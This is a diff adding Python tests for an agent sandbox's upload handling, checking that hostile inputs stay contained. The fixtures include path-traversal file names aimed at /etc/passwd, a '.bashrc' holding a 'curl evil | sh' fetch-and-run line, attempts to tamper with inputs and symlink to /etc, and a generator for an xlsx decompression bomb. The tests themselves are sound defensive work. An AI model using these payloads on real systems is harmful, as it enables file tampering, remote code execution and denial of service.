@@ -1771,3 +1771,188 @@ async def test_llm_helper_prompt_over_the_size_cap_never_leaves(escape_agent, ll
     assert len(sent) == 1
     assert max(len(json.dumps(body)) for body in llm_server.chat_requests()) < 100_000
     await check_unharmed(agent, result)
+
+
+# ---- inputs and workspace (issue 13)
+
+
+@pytest.fixture
+def upload_dir(tmp_path) -> Path:
+    """Where the "uploaded" files lie before a run takes them (the server's side)."""
+    directory = tmp_path / "uploads"
+    directory.mkdir()
+    return directory
+
+
+def uploaded(directory: Path, label: str, data: bytes) -> Path:
+    path = directory / f"upload-{hashlib.sha256(label.encode()).hexdigest()[:12]}"
+    path.write_bytes(data)
+    return path
+
+
+async def run_with_uploads(agent, llm_server, files, *steps, conversation: str = "attacker"):
+    from agent_core.workspace import run_with_files  # issue 13: absent before, so these tests fail there
+
+    llm_server.reply_json(plan(*steps, thought="attack"))
+    llm_server.reply_json(verdict("done", thoughts="attack finished"))
+    return await run_with_files(agent, "attack the host", conversation, files)
+
+
+LIST_INPUTS = subtask("list_inputs", code("""
+    import os
+    def list_inputs():
+        names = sorted(n for n in os.listdir("inputs") if os.path.isfile(os.path.join("inputs", n)))
+        data = {n: open(os.path.join("inputs", n), "rb").read().decode() for n in names}
+        return {"names": names, "data": data, "cwd_entries": sorted(os.listdir("."))}
+"""))
+
+
+async def test_hostile_upload_names_stay_plain_files_inside_inputs(escape_agent, llm_server, check_unharmed,
+                                                                   upload_dir):
+    before = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
+    given = {"../../etc/passwd": b"root::0:0::/:/bin/sh\n", ".bashrc": b"curl evil | sh\n", "a/b": b"ab\n",
+             "x\x1b]0;evil\x07\n\r.csv": b"ctl\n", "data.csv": b"first\n", "Data.csv": b"second\n",
+             "..": b"dots\n"}
+    files = [(name, uploaded(upload_dir, name, data)) for name, data in given.items()]
+    agent = escape_agent()
+
+    result = await run_with_uploads(agent, llm_server, files, LIST_INPUTS)
+
+    assert result.status == "succeeded", result.error
+    out = output_of(result)
+    assert out["names"] == sorted(["_._etc_passwd", "bashrc", "a_b", "x]0;evil.csv", "data.csv", "Data (2).csv",
+                                   "file"])
+    assert out["data"]["_._etc_passwd"] == "root::0:0::/:/bin/sh\n" and out["data"]["Data (2).csv"] == "second\n"
+    assert hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest() == before
+    prompt = json.dumps(llm_server.chat_requests()[0])
+    assert "\\u001b" not in prompt and "inputs/x]0;evil.csv" in prompt
+    await check_unharmed(agent, result)
+
+
+TAMPER = subtask("tamper", code("""
+    import os
+    def tamper():
+        outcome = {}
+        def attempt(name, action):
+            try:
+                action()
+                outcome[name] = "done"
+            except OSError as exc:
+                outcome[name] = type(exc).__name__
+        def overwrite():
+            with open("inputs/x.csv", "w") as handle:
+                handle.write("forged\\n")
+        def append():
+            with open("inputs/x.csv", "a") as handle:
+                handle.write("forged\\n")
+        attempt("overwrite", overwrite)
+        attempt("append", append)
+        attempt("delete", lambda: os.remove("inputs/x.csv"))
+        attempt("chmod", lambda: os.chmod("inputs/x.csv", 0o666))
+        attempt("rename_file", lambda: os.rename("inputs/x.csv", "inputs/y.csv"))
+        attempt("new_file", lambda: open("inputs/new.csv", "w").close())
+        attempt("chmod_dir", lambda: os.chmod("inputs", 0o777))
+        attempt("rmtree", lambda: os.rmdir("inputs"))
+        attempt("move_dir", lambda: os.rename("inputs", "old_inputs"))
+        if outcome["move_dir"] == "done":
+            attempt("link_dir", lambda: os.symlink("/etc", "inputs"))
+        with open("outputs/x.csv", "w") as handle:  # an output of the same name must not replace the upload
+            handle.write("forged\\n")
+        return {"outcome": outcome, "still": open("old_inputs/x.csv" if outcome["move_dir"] == "done"
+                                                  else "inputs/x.csv").read()}
+"""))
+
+
+async def test_a_step_cannot_change_its_inputs_and_the_workspace_keeps_the_original(
+        escape_agent, llm_server, check_unharmed, upload_dir):
+    original = b"region,amount\nnorth,1\n"
+    agent = escape_agent()
+
+    result = await run_with_uploads(agent, llm_server, [("x.csv", uploaded(upload_dir, "x", original))], TAMPER)
+
+    assert result.status == "succeeded", result.error
+    out = output_of(result)
+    outcome = out["outcome"]
+    for attack in ("overwrite", "append", "delete", "chmod", "rename_file", "new_file", "chmod_dir"):
+        assert outcome[attack] == "PermissionError", (attack, outcome)
+    assert outcome["rmtree"] in ("PermissionError", "OSError"), outcome  # not empty, and not the step's
+    if agent.executor.name == "bwrap":  # a root-owned inputs/ in a sticky working directory
+        assert outcome["move_dir"] == "PermissionError", outcome
+    assert out["still"] == original.decode()
+    # The workspace holds the upload's bytes, never what the sandbox has: the next run gets the original back.
+    files = {r["name"]: r for r in agent.storage.workspace_files("attacker")}
+    assert agent.storage.blob_path(files["x.csv"]["sha256"]).read_bytes() == original
+    assert files["x (2).csv"]["kind"] == "output"
+    follow_up = await run_with_uploads(agent, llm_server, [], LIST_INPUTS)
+    assert output_of(follow_up)["data"]["x.csv"] == original.decode()
+    await check_unharmed(agent, result, follow_up)
+
+
+PREVIEW_BREAKERS = {
+    "huge_line.csv": lambda: b"a,b\n" + b"x" * (3 << 20) + b",1\n",
+    "garbage.csv": lambda: bytes(random_bytes(200_000)),
+    "wide.csv": lambda: ",".join(f"c{i}" for i in range(1_000_000)).encode() + b"\n1,2\n",
+    "bomb.xlsx": lambda: xlsx_bomb(),
+    "fake.png": lambda: b"\x89PNG\r\n\x1a\n" + b"\xff" * 8,
+    "deep.json": lambda: b"[" * 100_000 + b"]" * 100_000,
+}
+
+
+def random_bytes(size: int) -> bytes:
+    return os.urandom(size)
+
+
+def xlsx_bomb() -> bytes:
+    """A tiny .xlsx whose one sheet inflates to about 300 MB of XML (one cell repeated)."""
+    import io
+    import zipfile
+
+    buffer = io.BytesIO()
+    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"A" * (300 << 20) + b"</t></is></c></row>"
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as book:
+        book.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
+                      'package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
+                      'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
+                      'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+                      'spreadsheetml.worksheet+xml"/></Types>')
+        book.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+                      'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
+                      'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
+        book.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
+                      'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+                      'relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>')
+        book.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
+                      'openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
+                      'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"'
+                      '/></Relationships>')
+        book.writestr("xl/worksheets/sheet1.xml", b'<?xml version="1.0"?><worksheet xmlns="http://schemas.'
+                      b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + row + b"</sheetData></worksheet>")
+    return buffer.getvalue()
+
+
+async def test_files_made_to_break_the_previewer_are_previewed_or_refused_in_the_sandbox(
+        escape_agent, llm_server, check_unharmed, upload_dir):
+    files = [(name, uploaded(upload_dir, name, make())) for name, make in PREVIEW_BREAKERS.items()]
+    files.append(("sales.csv", uploaded(upload_dir, "sales", b"region,amount\nnorth,1\nsouth,2\n")))
+    agent = escape_agent(step_timeout=20, step_memory_mb=512)
+    started = time.monotonic()
+
+    result = await run_with_uploads(agent, llm_server, files, subtask("ok", "def ok():\n    return {'ok': True}"))
+
+    assert result.status == "succeeded", result.error
+    assert time.monotonic() - started < 60
+    prompt = llm_server.chat_requests()[0]["messages"][-1]["content"]
+    manifest = prompt[prompt.index("Files in inputs/"):]
+    entries = re.split(r"\n(?=- inputs/)", manifest)[1:]
+    assert len(entries) == len(files), manifest
+    for entry in entries:
+        assert len(entry) < 700, entry  # the line and a preview of at most 400 characters
+    by_name = {e.split()[1].removeprefix("inputs/"): e for e in entries}
+    assert "preview failed: Error: field larger than field limit" in by_name["huge_line.csv"]
+    assert "1000000 columns" in by_name["wide.csv"]
+    assert "header: region | amount" in by_name["sales.csv"] and "2 data rows" in by_name["sales.csv"]
+    bomb = by_name["bomb.xlsx"]  # inflates past the step's memory: refused inside the sandbox
+    assert "preview failed" in bomb or "Excel workbook" in bomb, bomb
+    assert "PNG image" in by_name["fake.png"] and "JSON" in by_name["deep.json"] or "preview failed" in by_name["deep.json"]
+    assert len(prompt) < 12_000
+    await check_unharmed(agent, result)
